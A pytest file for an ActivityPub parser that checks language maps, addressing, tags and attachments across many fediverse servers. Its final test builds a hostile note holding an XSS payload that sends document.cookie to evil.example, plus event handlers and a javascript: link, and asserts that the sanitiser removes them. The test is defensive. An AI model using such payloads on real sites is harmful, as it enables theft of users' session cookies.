"""Content objects: text, languages, addressing, tags and attachments."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest

from migrantnet.federation.normalize import PUBLIC
from migrantnet.federation.parse import ParsedTag, ParseError, parse_object

Load = Callable[[str], Any]

LAIN_MENTION = (
    '<p><span class="h-card"><a href="http://localtesting.pleroma.lol/users/lain" '
    'class="u-url mention" rel="nofollow noopener noreferrer">@<span>lain</span></a>'
    "</span></p>"
)


def test_mastodon_content_map(load_corpus: Load) -> None:
    note = parse_object(load_corpus("mastodon/create-note-contentmap.json")["object"])
    assert note.ap_id == "http://mastodon.example.org/users/admin/statuses/99512778738411822"
    assert note.type == "Note"
    assert note.content_map == {"en": LAIN_MENTION}
    assert note.primary_language == "en"
    assert note.summary_map == {"und": "cw"}
    assert note.sensitive is True
    assert note.is_public is True
    assert note.to == (PUBLIC,)
    assert note.cc == (
        "http://mastodon.example.org/users/admin/followers",
        "http://localtesting.pleroma.lol/users/lain",
    )
    assert note.tags == (
        ParsedTag(
            "Mention",
            "@lain@localtesting.pleroma.lol",
            "http://localtesting.pleroma.lol/users/lain",
        ),
    )
    assert note.attributed_to == "http://mastodon.example.org/users/admin"
    assert note.url == "http://mastodon.example.org/@admin/99512778738411822"
    assert note.published == datetime(2018, 2, 12, 14, 8, 20, tzinfo=UTC)
    assert note.in_reply_to is None


def test_content_equal_to_content_map_gets_no_und(load_corpus: Load) -> None:
    note = parse_object(load_corpus("mastodon/note-with-language.json"))
    assert note.content_map == {"ja": "<p>tag</p>"}
    assert note.primary_language == "ja"
    assert note.summary_map == {}


def test_same_text_in_other_markup_gets_no_und(load_corpus: Load) -> None:
    # Friendica's content uses an h-card, its contentMap a <bdi>: same text.
    note = parse_object(load_corpus("friendica/note-1.json"))
    assert list(note.content_map) == ["de"]
    assert "test" in note.content_map["de"]


def test_lemmy_language_object(load_corpus: Load) -> None:
    page = parse_object(load_corpus("lemmy/page-post.json"))
    assert page.type == "Page"
    assert page.name_map == {"fr": "Post title"}
    assert page.content_map == {"fr": "<p>This is a post in the /c/tenforward community</p>"}
    assert page.primary_language == "fr"
    assert page.audience == ("https://enterprise.lemmy.ml/c/tenforward",)
    assert page.attachments[0].type == "Link"
    assert page.attachments[0].url == "https://enterprise.lemmy.ml/pictrs/image/eOtYb9iEiB.png"
    # CommunityPostTag is skipped, the Mention kept.
    assert [t.type for t in page.tags] == ["Mention"]
    assert page.published == datetime(2021, 2, 26, 12, 35, 34, 292626, tzinfo=UTC)


def test_context_language_und(load_corpus: Load) -> None:
    note = parse_object(load_corpus("pleroma/note.json"))
    assert list(note.content_map) == ["und"]
    assert note.primary_language is None
    assert note.sensitive is False  # sensitive: null


def test_mobilizon_in_language(load_corpus: Load) -> None:
    event = parse_object(load_corpus("mobilizon/event.json"))
    assert list(event.content_map) == ["en"]
    assert event.name_map == {"en": "Caledonian scottish dance class"}


def test_wordpress_name_and_summary_maps(load_corpus: Load) -> None:
    article = parse_object(load_corpus("wordpress/article-long.json"))
    assert article.name_map == {"en": "An Epic 3D-Printed Fan Expansion for Last Light"}
    assert list(article.summary_map) == ["en"]
    assert list(article.content_map) == ["en"]
    assert article.audience == ("https://dbzer0.com/?author=0",)


def test_poll_vote_has_name_only(load_corpus: Load) -> None:
    vote = parse_object(load_corpus("mastodon/create-note-poll-vote.json")["object"])
    assert vote.content_map == {}
    assert vote.name_map == {"und": "suya.."}
    assert (
        vote.in_reply_to == "https://testing.uguu.ltd/objects/9d300947-2dcb-445d-8978-9a3b4b84fa14"
    )
    assert vote.is_public is False


def test_empty_summary_is_no_summary(load_corpus: Load) -> None:
    note = parse_object(load_corpus("pleroma/note-comment-absturztau.json"))
    assert note.summary_map == {}
    assert note.attachments[0].media_type == "image/jpeg"


@pytest.mark.parametrize(
    ("name", "public"),
    [
        ("mastodon/note-direct-message.json", False),
        ("mastodon/create-note-unlisted-reply.json", True),  # Public in cc
        ("owncast/note-live-with-attachment.json", True),  # to as a bare string
        ("discourse/note-topic.json", False),  # no to/cc at all
    ],
)
def test_public_addressing(load_corpus: Load, name: str, public: bool) -> None:
    doc = load_corpus(name)
    doc = doc.get("object", doc) if doc.get("type") == "Create" else doc
    assert parse_object(doc).is_public is public


def test_peertube_video(load_corpus: Load) -> None:
    video = parse_object(load_corpus("peertube/video.json"))
    assert video.type == "Video"
    assert video.attributed_to == "https://tilvids.com/accounts/thelinuxexperiment"
    assert video.audience == ("https://tilvids.com/video-channels/thelinuxexperiment_channel",)
    assert video.url == "https://tilvids.com/videos/watch/e7946124-7b72-4ad7-9d22-844a84bb2de1"
    assert video.primary_language == "en"
    # The description is Markdown (mediaType text/markdown): rendered, then sanitised.
    assert video.content_map["en"].startswith("<p>Head to https://squarespace.com/")
    assert "<li>a Daily Linux News show</li>" in video.content_map["en"]
    assert video.tags == ()  # Infohash and Link tags are not ours


def test_plume_author_before_blog(load_corpus: Load) -> None:
    article = parse_object(load_corpus("plume/article.json"))
    assert article.attributed_to == "https://fediverse.blog/@/KitaitiMakoto/"


def test_prismo_url_link_tags_and_actor_list(load_corpus: Load) -> None:
    article = parse_object(load_corpus("prismo/create-article-url-link.json")["object"])
    assert article.url == "https://prismo.news/posts/83"
    assert article.attributed_to == "https://prismo.news/@mxb"
    assert [t.name for t in article.tags] == ["#prismo", "#prismodev", "#meta"]


def test_single_objects_instead_of_lists(load_corpus: Load) -> None:
    owncast = parse_object(load_corpus("owncast/note-live-with-attachment.json"))
    assert len(owncast.attachments) == 1
    assert owncast.attachments[0].type == "Image"
    assert owncast.attachments[0].name == "Live stream preview"
    assert [t.name for t in owncast.tags] == ["#owncast", "#streaming"]  # duplicate folded
    assert owncast.audience == ()  # audience was the Public collection, not a group
    kroeg = parse_object(load_corpus("kroeg/create-note-tag-not-array.json")["object"])
    assert kroeg.tags == (
        ParsedTag("Hashtag", "#test", "https://puckipedia.com/ur33-818k/note/hashtag"),
    )
    emoji = parse_object(load_corpus("kroeg/create-note-emoji-not-array.json")["object"])
    assert emoji.tags[0].type == "Emoji"
    assert emoji.tags[0].href == "https://puckipedia.com/forum/images/smilies/icon_e_smile.png"


def test_tag_oddities(load_corpus: Load) -> None:
    gancio = parse_object(load_corpus("gancio/create-event.json")["object"])
    assert gancio.tags == (ParsedTag("Hashtag", "#test", "https://demo.gancio.org/tags/test"),)
    smithereen = parse_object(load_corpus("smithereen/note.json"))
    assert smithereen.tags == (
        ParsedTag("Mention", "https://ds9.lemmy.ml/u/nutomic", "https://ds9.lemmy.ml/u/nutomic"),
    )
    funkwhale = parse_object(load_corpus("funkwhale/audio.json"))
    assert funkwhale.tags[0] == ParsedTag("Hashtag", "#funkwhale", None)


def test_media_in_url_lists(load_corpus: Load) -> None:
    audio = parse_object(load_corpus("funkwhale/audio.json"))
    assert audio.url == "https://channels.tests.funkwhale.audio/library/tracks/74"
    assert audio.attachments[0].media_type == "audio/ogg"  # from mimeType
    image = parse_object(load_corpus("hubzilla/create-image.json")["object"])
    assert image.url == (
        "https://hub.somaton.com/photos/testc6/image/452583b2-7e1f-4ac3-8334-ff666f134afe"
    )
    assert image.attachments[0].url.endswith("-0.jpg")  # the 2200px rendition


def test_mastodon_document_attachment(load_corpus: Load) -> None:
    note = parse_object(load_corpus("mastodon/note-with-image-blurhash.json"))
    assert note.attachments[0].type == "Document"
    assert note.attachments[0].media_type == "image/jpeg"
    assert note.primary_language == "fr"


def test_tombstone(load_corpus: Load) -> None:
    tombstone = parse_object(load_corpus("lemmy/tombstone.json"))
    assert tombstone.type == "Tombstone"
    assert tombstone.content_map == {}


def test_object_without_id() -> None:
    with pytest.raises(ParseError) as caught:
        parse_object({"type": "Note", "content": "hi"})
    assert caught.value.path == "id"


def test_hostile_html_is_neutralised() -> None:
    note = parse_object(
        {
            "id": "https://evil.example/notes/1",
            "type": "Note",
            "attributedTo": "https://evil.example/users/mallory",
            "to": ["as:Public"],
            "content": (
                '<p onclick="steal()">Hello <strong>friends</strong>'
                "<script>document.location='https://evil.example/?c='+document.cookie</script>"
                "<style>body{display:none}</style>"
                '<a href="javascript:alert(1)">click me</a> '
                '<a href="https://safe.example/page" onmouseover="x()" target="_blank">'
                "safe link</a>"
                '<img src="https://evil.example/pixel.gif" onerror="x()"></p>'
            ),
        }
    )
    html = note.content_map["und"]
    lowered = html.lower()
    for needle in ("<script", "document.cookie", "<style", "display:none", "onclick", "onmouseover",
                   "onerror", "javascript:", "<img", "target="):  # fmt: skip
        assert needle not in lowered, needle
    assert "Hello <strong>friends</strong>" in html
    assert "click me" in html
    assert (
        '<a href="https://safe.example/page" rel="nofollow noopener noreferrer">safe link</a>'
        in html
    )
    assert note.is_public is True  # "as:Public" counts
